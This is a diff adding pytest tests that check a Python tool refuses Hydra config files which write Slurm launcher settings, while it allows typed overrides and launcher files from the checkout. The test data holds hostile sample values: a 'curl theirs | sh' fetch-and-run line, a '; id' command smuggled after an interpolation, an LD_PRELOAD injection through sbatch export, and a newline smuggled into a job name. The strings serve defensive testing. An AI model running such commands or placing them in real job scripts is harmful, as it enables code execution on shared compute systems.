@@ -6,6 +6,7 @@ import pytest
 from hydra import compose, initialize_config_dir
 from omegaconf import OmegaConf
 
+from audition.config import trust
 from audition.config.root import conf_dir
 from audition.config.trust import check_hydra_code, check_trusted, trusted
 from audition.errors import AuditionError
@@ -79,6 +80,43 @@ def test_hydras_own_node_names_no_code_of_a_file(folder: Path, text: str) -> Non
         pytest.raises(AuditionError, match=r"is not allowed|comes from a file"),
     ):
         compose("audition", list(words), return_hydra_config=True)
+
+
+SCRIPTS = {
+    "lines of the shell": "setup: ['curl theirs | sh']",
+    "lines by reference": "setup: ['${hydra.job.name}; id']",
+    "parameters of sbatch": "additional_parameters: {export: 'ALL,LD_PRELOAD=theirs.so'}",
+    "a line within a name": 'name: "audition\\nid"',
+}
+
+
+@pytest.mark.parametrize("text", SCRIPTS.values(), ids=SCRIPTS)
+def test_a_file_does_not_write_the_script_of_a_job(folder: Path, text: str) -> None:
+    words = (*idea(folder, f"hydra: {{launcher: {{{text}}}}}"), "hydra/launcher=slurm_cpu")
+    hurry()
+    with initialize_config_dir(str(conf_dir()), version_base="1.3"):
+        with pytest.raises(AuditionError, match=r"hydra\.launcher\.\w+ comes from a file"):
+            compose("audition", list(words), return_hydra_config=True)
+        typed = (
+            "hydra.launcher.setup=[module load cuda]",
+            "+hydra.launcher.additional_parameters.export=NONE",
+            "hydra.launcher.name=mine",
+        )
+        made = compose("audition", [*words, *typed], return_hydra_config=True)
+        assert made.hydra.launcher.setup == ["module load cuda"]
+        assert made.hydra.launcher.additional_parameters == {"export": "NONE"}
+
+
+def test_the_launchers_of_the_checkout_may_have_lines_of_the_shell(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    shell = {"launcher": {"setup": ["module load cuda"]}}
+    with pytest.raises(AuditionError, match="comes from a file"):
+        check_hydra_code(OmegaConf.create(shell), ())
+    (tmp_path / "hydra/launcher").mkdir(parents=True)
+    (tmp_path / "hydra/launcher/ours.yaml").write_text("setup: [module load cuda]\n")
+    monkeypatch.setattr(trust, "conf_dir", lambda: tmp_path)
+    check_hydra_code(OmegaConf.create(shell), ())
 
 
 def test_what_is_typed_and_what_is_hydras_may_be_named() -> None:
